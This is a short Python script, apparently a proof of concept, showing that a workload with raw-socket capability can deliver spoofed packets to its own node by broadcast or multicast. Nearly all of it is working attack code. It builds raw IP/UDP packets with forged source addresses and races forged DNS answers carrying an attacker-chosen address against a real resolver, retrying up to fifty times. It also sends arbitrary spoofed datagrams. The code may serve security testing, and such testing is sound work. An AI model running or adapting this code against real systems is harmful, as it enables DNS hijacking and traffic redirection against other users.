#!/usr/bin/env python3
"""Forgeries a workload with NET_RAW delivers to its own sockets by broadcast.

A raw-socket broadcast or multicast is looped back by the node to its own
sockets: a copy that arrives on eth0 (not lo), as PACKET_LOOPBACK, with no
socket on its way out, so with whatever source address the raw socket wrote.

  broadcast_forge.py dns RESOLVER NAME FORGED_IP DST
      sends a real query for NAME to RESOLVER:53 from an unconnected socket
      bound to 0.0.0.0 (a broadcast reaches only such sockets), then a forged
      answer "from" RESOLVER:53 (same id and question, A FORGED_IP) to DST
      (the subnet broadcast, 255.255.255.255 or a multicast group) and the
      socket's port. Prints what the raw send did ("sent" or the errno name:
      the copy that leaves may be refused, the looped-back one is delivered)
      and what the socket received first: forged, resolver or nothing.
  broadcast_forge.py peer SRC_IP SRC_PORT DST DST_PORT
      one datagram "from" SRC_IP:SRC_PORT to DST:DST_PORT. Prints "sent" or
      the errno name.
"""
import errno
import random
import socket
import struct
import sys


def question(name):
    out = b""
    for label in name.rstrip(".").split("."):
        out += bytes([len(label)]) + label.encode()
    return out + b"\x00" + struct.pack("!HH", 1, 1)


def raw_udp(src, sport, dst, dport, payload):
    """A prepared send: returns a function that sends and says how it went."""
    udp = struct.pack("!HHHH", sport, dport, 8 + len(payload), 0) + payload
    ip = struct.pack("!BBHHHBBH4s4s", 0x45, 0, 20 + len(udp), 0, 0, 64, socket.IPPROTO_UDP, 0,
                     socket.inet_aton(src), socket.inet_aton(dst))
    raw = socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_RAW)
    raw.setsockopt(socket.SOL_SOCKET, socket.SO_BROADCAST, 1)

    def send():
        try:
            raw.sendto(ip + udp, (dst, 0))
            return "sent"
        except OSError as e:
            return errno.errorcode.get(e.errno, str(e.errno))
    return send


def dns_once(resolver, name, forged_ip, dst):
    qid = random.randrange(1, 65535)
    s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    s.bind(("0.0.0.0", 0))
    port = s.getsockname()[1]
    q = question(name)
    answer = struct.pack("!HHHHHH", qid, 0x8180, 1, 1, 0, 0) + q
    answer += b"\xc0\x0c" + struct.pack("!HHIH", 1, 1, 300, 4) + socket.inet_aton(forged_ip)
    forge = raw_udp(resolver, 53, dst, port, answer)
    # Everything prepared first: the forgery races the resolver's answer.
    s.sendto(struct.pack("!HHHHHH", qid, 0x0100, 1, 0, 0, 0) + q, (resolver, 53))
    sent = forge()
    s.settimeout(2)
    try:
        data = s.recv(2048)
        got = "forged" if socket.inet_aton(forged_ip) in data else "resolver"
    except socket.timeout:
        got = "nothing"
    return sent, got


def dns(resolver, name, forged_ip, dst):
    # An attacker tries until the forgery arrives before the real answer.
    for attempt in range(1, 51):
        sent, got = dns_once(resolver, name, forged_ip, dst)
        if got != "resolver":
            break
    print(f"raw:{sent} first:{got} attempts:{attempt}")


def main():
    if len(sys.argv) == 6 and sys.argv[1] == "dns":
        dns(*sys.argv[2:6])
    elif len(sys.argv) == 6 and sys.argv[1] == "peer":
        print(raw_udp(sys.argv[2], int(sys.argv[3]), sys.argv[4], int(sys.argv[5]), b"hello")())
    else:
        sys.exit(__doc__)


if __name__ == "__main__":
    main()
